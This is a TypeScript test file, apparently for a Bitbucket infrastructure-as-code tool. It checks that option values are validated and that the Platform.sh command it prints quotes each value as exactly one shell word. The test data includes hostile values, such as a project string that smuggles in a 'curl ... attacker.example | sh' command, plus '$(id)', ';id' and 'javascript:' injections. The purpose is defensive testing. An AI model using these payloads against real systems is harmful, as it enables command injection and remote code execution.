// Issue 19.4: the command a preset tells operators to run is data, not code. Options the platform
// gives a format (a Platform.sh project id, a Bitbucket user slug, a server's base URL) are refused
// by `validate` at their line and column and by the Integration's own check; and every value the
// command carries (those, and the key, secret, token, workspace, project and repository) comes out
// as exactly one shell word. Properties run with a fixed seed; FUZZ_SEED and FUZZ_RUNS change it.

import * as assert from "node:assert/strict";
import { spawnSync } from "child_process";
import * as fc from "fast-check";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import * as pulumi from "@pulumi/pulumi";
import { parse } from "shell-quote";
import { Integration, OAuthConsumer } from "../../provider";
import { mockRegistrations } from "../../provider/cli/declared";
import { platformCommand, presetFor } from "../../provider/presets";
import { run, workdir } from "../cli/run";

const SEED = Number(process.env.FUZZ_SEED ?? 194);
/** Runs of the pure properties; those through a whole Integration (under mocks) run a tenth as many. */
const RUNS = Number(process.env.FUZZ_RUNS ?? 200);
const WIRED_RUNS = Math.max(1, Math.round(RUNS / 10));
const PSH = ["account", "email", "repository:write", "pullrequest", "webhook"];
/** The value of the issue: it validated, and came out as a second command whose `#` ate the credentials. */
const HOSTILE_PROJECT = "abcdefgh1234 --fetch-branches=true; curl -s https://attacker.example/x | sh #";
/** The branch options and their `integration:update` flags, in the order the command gives them. */
const BRANCH_OPTIONS = [
  ["fetchBranches", "fetch-branches"],
  ["pruneBranches", "prune-branches"],
  ["buildPullRequests", "build-pull-requests"],
  ["buildPullRequestsPostMerge", "build-pull-requests-post-merge"],
] as const;
type Branches = Partial<Record<(typeof BRANCH_OPTIONS)[number][0], boolean>>;

const value = <T>(o: pulumi.Output<T> | undefined) => (o as unknown as { promise(): Promise<T> }).promise();

/** `bitbucket-iac validate` on a manifest; its problem lines without the directory. */
async function validate(text: string): Promise<{ code: number; lines: string[] }> {
  const dir = workdir({ "bitbucket.yaml": text });
  try {
    const r = await run(["validate", "bitbucket.yaml"], dir);
    return { code: r.code, lines: r.err.split("\n").filter((l) => l.startsWith("bitbucket.yaml:")) };
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
}

/** The argv shell-quote's parser reads from a command line; fails on any operator, glob or comment. */
function argvByParse(command: string, env: Record<string, string> = {}): string[] {
  return parse(command, (k) => env[k] ?? "").map((t) => {
    assert.equal(typeof t, "string", `parse found ${JSON.stringify(t)} in ${JSON.stringify(command)}`);
    return t as string;
  });
}

/**
 * The argv a real POSIX shell (/bin/sh) passes to `platform`: the command runs with `platform` a
 * function that prints its arguments, no PATH (nothing outside the shell can run) and a fresh
 * directory. Anything a value smuggled out of its word shows up as extra output.
 */
function argvBySh(command: string, env: Record<string, string> = {}): string[] {
  const cwd = fs.mkdtempSync(path.join(os.tmpdir(), "bbiac-sh-"));
  try {
    const r = spawnSync("/bin/sh", ["-c", `platform() { printf '%s\\0' platform "$@"; }\n${command}`], {
      cwd,
      env: { PATH: "", ...env },
      encoding: "utf8",
      timeout: 5000,
    });
    assert.equal(r.status, 0, `sh failed on ${JSON.stringify(command)}: ${r.stderr}`);
    assert.equal(r.stderr, "", `sh complained on ${JSON.stringify(command)}`);
    return r.stdout.split("\0").slice(0, -1);
  } finally {
    fs.rmSync(cwd, { recursive: true, force: true });
  }
}

/** Runs a program under mocks: consumers answer with `consumer`, access tokens with `token`. */
async function mocked(
  answers: { consumer?: { key: string; secret: string }; token?: string },
  program: () => Integration,
): Promise<Integration> {
  await mockRegistrations("test", async (type, name, inputs) => ({
    id: `${name}-id`,
    state: {
      ...(inputs as Record<string, unknown>),
      ...(type === "OAuthConsumer" && { ...answers.consumer, grantedScopes: PSH }),
      ...(type === "AccessToken" && { token: answers.token, tokenId: "1" }),
    },
  }));
  return program();
}

/** What a preset may be handed: a formatted option only if the preset accepts it. */
const valid = (preset: "cloud" | "datacenter", options: Record<string, string | boolean>) =>
  presetFor("platformsh", preset)!.validate(options).length === 0;

const cloudIntegration =
  (v: { project: string; workspace: string; repository: string; branches?: Branches }) => () =>
    new Integration("psh", {
      preset: "platformsh",
      workspace: v.workspace,
      repositories: [v.repository],
      consumer: new OAuthConsumer("c", {
        workspace: "acme",
        name: "Platform.sh",
        callbackUrl: "http://localhost",
        scopes: PSH,
        key: "k",
        secret: "s",
      }),
      options: { project: v.project, ...v.branches },
    });

const dcIntegration =
  (v: { project: string; username: string; url: string; projectKey: string; repository: string }) => () =>
    new Integration("psh", {
      preset: "platformsh",
      flavor: "datacenter",
      project: v.projectKey,
      repositories: [v.repository],
      options: { project: v.project, username: v.username, url: v.url },
    });

/** Text no shell may read as anything but itself: operators, quotes, expansions, comments, newlines. */
const nasty = fc
  .oneof(
    fc.string({ unit: "grapheme", maxLength: 24 }),
    fc.string({ unit: fc.constantFrom(..."a-=:/ \t\n'\"\\$`!#;&|<>(){}[]*?~%^,@"), maxLength: 24 }),
    fc.constantFrom(
      HOSTILE_PROJECT,
      "'; echo injected; '",
      '"$(echo injected)"',
      "`echo x`",
      "-",
      "",
      "=x",
      "~root",
    ),
  )
  .filter((s) => !s.includes("\0")); // no argv can hold a NUL
/** What an Integration requires to be given (a workspace, a project key): anything but nothing. */
const nonEmpty = nasty.filter((s) => s.trim() !== "");
/** Base URLs: fast-check's web URLs (many with characters the format refuses) and plain ones. */
const urls = fc.oneof(
  fc.webUrl({ validSchemes: ["http", "https"] }),
  fc.stringMatching(/^https?:\/\/[a-z0-9.-]{1,20}(:[0-9]{1,5})?(\/[A-Za-z0-9._~%-]{0,10}){0,3}$/),
);
/** Values of a formatted option: mostly well-formed, some hostile, each kept only if the preset accepts it. */
const formatted = (good: fc.Arbitrary<string>) =>
  fc.oneof({ weight: 3, arbitrary: good }, { weight: 1, arbitrary: nasty });

describe("issue 19.4: the command a preset prints is data, not code", () => {
  describe("bitbucket-iac validate refuses option values outside the platform's format", () => {
    it("refuses a Platform.sh project that is not a project id at its line and column (Cloud)", async () => {
      const r = await validate(
        [
          "version: 1",
          "workspace: acme",
          "oauthConsumers:",
          "  - id: psh",
          "    name: Platform.sh",
          "    callbackUrl: http://localhost",
          "    scopes: [account, email, repository:write, pullrequest, webhook]",
          "    key: { fromConfig: k }",
          "    secret: { fromConfig: s }",
          "integrations:",
          "  - id: psh",
          "    preset: platformsh",
          "    consumer: psh",
          "    repositories: [api]",
          "    options:",
          `      project: "${HOSTILE_PROJECT}"`,
          "",
        ].join("\n"),
      );
      assert.equal(r.code, 1);
      assert.deepEqual(r.lines, [
        "bitbucket.yaml:16:16 integrations[0].options.project: Platform.sh: project: must be a Platform.sh project id: lowercase letters and digits, as `platform project:list` prints it (e.g. abcdefgh1234567)",
      ]);
    });

    it("refuses a hostile project, username and url at their lines and columns (Data Center)", async () => {
      const r = await validate(
        [
          "version: 1",
          "flavor: datacenter",
          "project: PROJ",
          "integrations:",
          "  - id: psh",
          "    preset: platformsh",
          "    repositories: [api]",
          "    options:",
          `      project: "${HOSTILE_PROJECT}"`,
          "      username: ci-bot;id",
          "      url: https://bitbucket.example.com/$(id)",
          "  - id: puppet",
          "    preset: puppet-pipelines",
          "    options:",
          "      username: 'ci bot'",
          "      url: javascript:alert(1)",
          "",
        ].join("\n"),
      );
      const URL_RULE =
        "must be an http(s) base URL such as https://bitbucket.example.com: no spaces, user:password@, ?query or #fragment (other characters %-encoded)";
      const USER_RULE =
        "must be a Bitbucket user slug: letters, digits, '.', '_', '@' and '-', starting with a letter or digit (e.g. ci-bot)";
      assert.equal(r.code, 1);
      assert.deepEqual(r.lines, [
        "bitbucket.yaml:9:16 integrations[0].options.project: Platform.sh (Bitbucket Server): project: must be a Platform.sh project id: lowercase letters and digits, as `platform project:list` prints it (e.g. abcdefgh1234567)",
        `bitbucket.yaml:10:17 integrations[0].options.username: Platform.sh (Bitbucket Server): username: ${USER_RULE}`,
        `bitbucket.yaml:11:12 integrations[0].options.url: Platform.sh (Bitbucket Server): url: ${URL_RULE}`,
        `bitbucket.yaml:15:17 integrations[1].options.username: Puppet Pipelines (Bitbucket Server): username: ${USER_RULE}`,
        `bitbucket.yaml:16:12 integrations[1].options.url: Puppet Pipelines (Bitbucket Server): url: ${URL_RULE}`,
      ]);
    });

    it("accepts the project ids, slugs and URLs the examples and the guide use", async () => {
      for (const [project, flavor] of [
        ["abcdefgh1234", "cloud"],
        ["abcdefgh1234567", "datacenter"],
      ] as const) {
        assert.deepEqual(
          presetFor("platformsh", flavor)!.validate({
            project,
            ...(flavor === "datacenter" && {
              username: "ci-bot",
              url: "https://bitbucket.example.com:7990/bb",
            }),
          }),
          [],
        );
      }
    });
  });

  describe("the Integration's check refuses them too (library use)", () => {
    it("refuses a hostile project on Cloud, and a hostile project, username and url on Data Center", async () => {
      await assert.rejects(
        mocked({}, cloudIntegration({ project: HOSTILE_PROJECT, workspace: "acme", repository: "api" })),
        {
          message:
            "integration psh (platformsh):\n  project: must be a Platform.sh project id: lowercase letters and digits, as `platform project:list` prints it (e.g. abcdefgh1234567)",
        },
      );
      await assert.rejects(
        mocked(
          {},
          dcIntegration({
            project: "abc",
            username: "ci-bot --token=x #",
            url: "https://bb.example.com\n; id",
            projectKey: "PROJ",
            repository: "api",
          }),
        ),
        (e: Error) =>
          /^integration psh \(platformsh\):\n {2}username: must be a Bitbucket user slug.*\n {2}url: must be an http\(s\) base URL/.test(
            e.message,
          ),
      );
    });
  });

  describe("every value in the command is one shell word", () => {
    it("reads back, through a real shell, exactly the argv it was given, whatever the values", () => {
      fc.assert(
        fc.property(
          fc.array(fc.tuple(fc.stringMatching(/^[a-z][a-z-]{0,10}$/), nasty), { maxLength: 6 }),
          fc.array(fc.tuple(fc.stringMatching(/^[a-z][a-z-]{0,10}$/), nasty), { maxLength: 2 }),
          (flags, fromEnv) => {
            const env = Object.fromEntries(fromEnv.map(([, v], i) => [`V${i}`, v]));
            const command = platformCommand([
              ...flags,
              ...fromEnv.map(([name], i): [string, { env: string }] => [name, { env: `V${i}` }]),
            ]);
            assert.deepEqual(argvBySh(command, env), [
              "platform",
              "integration:add",
              ...flags.map(([name, v]) => `--${name}=${v}`),
              ...fromEnv.map(([name, v]) => `--${name}=${v}`),
            ]);
          },
        ),
        { seed: SEED, numRuns: Math.round(RUNS / 4) },
      );
    });

    it("reads back, through shell-quote's parser, exactly the intended argv for every project, username and url that validates: no operator, no comment, each value intact", () => {
      fc.assert(
        fc.property(
          fc.record({
            project: formatted(fc.stringMatching(/^[a-z0-9]{1,20}$/)),
            username: formatted(fc.stringMatching(/^[A-Za-z0-9][A-Za-z0-9._@-]{0,15}$/)),
            url: formatted(urls),
          }),
          (v) => {
            fc.pre(valid("datacenter", v) && valid("cloud", { project: v.project }));
            const flags: Array<[string, string]> = [
              ["project", v.project],
              ["base-url", v.url],
              ["username", v.username],
              ["token", "dG9rZW4+Lz0="],
            ];
            const intended = ["platform", "integration:add", ...flags.map(([k, x]) => `--${k}=${x}`)];
            assert.deepEqual(argvByParse(platformCommand(flags)), intended);
            assert.deepEqual(
              argvByParse(platformCommand([...flags.slice(0, 3), ["token", { env: "BITBUCKET_TOKEN" }]]), {
                BITBUCKET_TOKEN: "dG9rZW4+Lz0=",
              }),
              intended,
            );
          },
        ),
        { seed: SEED, numRuns: RUNS },
      );
    });

    it("Cloud: prints every project that validates and any workspace, repository, key, secret and branch options as one word each, in the command, its template and the update and validate commands", async () => {
      await fc.assert(
        fc.asyncProperty(
          fc.record({
            project: formatted(fc.stringMatching(/^[a-z0-9]{1,20}$/)),
            workspace: nonEmpty,
            repository: nasty,
            key: nasty,
            secret: nasty,
            branches: fc.record(
              {
                fetchBranches: fc.boolean(),
                pruneBranches: fc.boolean(),
                buildPullRequests: fc.boolean(),
                buildPullRequestsPostMerge: fc.boolean(),
              },
              { requiredKeys: [] },
            ),
            integrationId: nasty,
          }),
          async (v) => {
            fc.pre(valid("cloud", { project: v.project, ...v.branches }));
            const i = await mocked({ consumer: { key: v.key, secret: v.secret } }, cloudIntegration(v));
            const intended = [
              "platform",
              "integration:add",
              "--type=bitbucket",
              `--project=${v.project}`,
              `--key=${v.key}`,
              `--secret=${v.secret}`,
              `--repository=${v.workspace}/${v.repository}`,
            ];
            const command = await value(i.outputs.platformCommand as pulumi.Output<string>);
            const template = await value(i.outputs.platformCommandTemplate as pulumi.Output<string>);
            assert.ok(
              command.startsWith(" platform ") && template.startsWith(" platform "),
              "the guide's leading space",
            );
            assert.deepEqual(argvBySh(command), intended);
            assert.deepEqual(
              argvBySh(template, { PLATFORMSH_KEY: v.key, PLATFORMSH_SECRET: v.secret }),
              intended,
            );
            const given = BRANCH_OPTIONS.filter(([k]) => v.branches[k] !== undefined);
            const update = i.outputs.updateCommand as pulumi.Output<string> | undefined;
            if (given.length === 0) assert.equal(update, undefined, "no branch option: no update command");
            else
              assert.deepEqual(argvBySh(await value(update), { INTEGRATION_ID: v.integrationId }), [
                "platform",
                "integration:update",
                v.integrationId,
                `--project=${v.project}`,
                ...given.map(([k, flag]) => `--${flag}=${String(v.branches[k])}`),
              ]);
            assert.deepEqual(argvBySh(await value(i.outputs.validateCommand as pulumi.Output<string>)), [
              "platform",
              "integration:validate",
              `--project=${v.project}`,
            ]);
          },
        ),
        { seed: SEED, numRuns: WIRED_RUNS },
      );
    });

    it("Data Center: prints every project, username and url that validate and any project key, repository and token as one word each, in the command and its template", async () => {
      await fc.assert(
        fc.asyncProperty(
          fc.record({
            project: formatted(fc.stringMatching(/^[a-z0-9]{1,20}$/)),
            username: formatted(fc.stringMatching(/^[A-Za-z0-9][A-Za-z0-9._@-]{0,15}$/)),
            url: formatted(urls),
            projectKey: nonEmpty,
            repository: nasty,
            token: nasty,
          }),
          async (v) => {
            fc.pre(valid("datacenter", { project: v.project, username: v.username, url: v.url }));
            const i = await mocked({ token: v.token }, dcIntegration(v));
            const intended = [
              "platform",
              "integration:add",
              "--type=bitbucket_server",
              `--project=${v.project}`,
              `--base-url=${v.url.replace(/\/+$/, "")}`,
              `--username=${v.username}`,
              `--token=${v.token}`,
              `--repository=${v.projectKey}/${v.repository}`,
            ];
            const command = await value(i.outputs.platformCommand as pulumi.Output<string>);
            const template = await value(i.outputs.platformCommandTemplate as pulumi.Output<string>);
            assert.ok(
              command.startsWith(" platform ") && template.startsWith(" platform "),
              "the guide's leading space",
            );
            assert.deepEqual(argvBySh(command), intended);
            assert.deepEqual(argvBySh(template, { PLATFORMSH_TOKEN: v.token }), intended);
          },
        ),
        { seed: SEED, numRuns: WIRED_RUNS },
      );
    });
  });
});
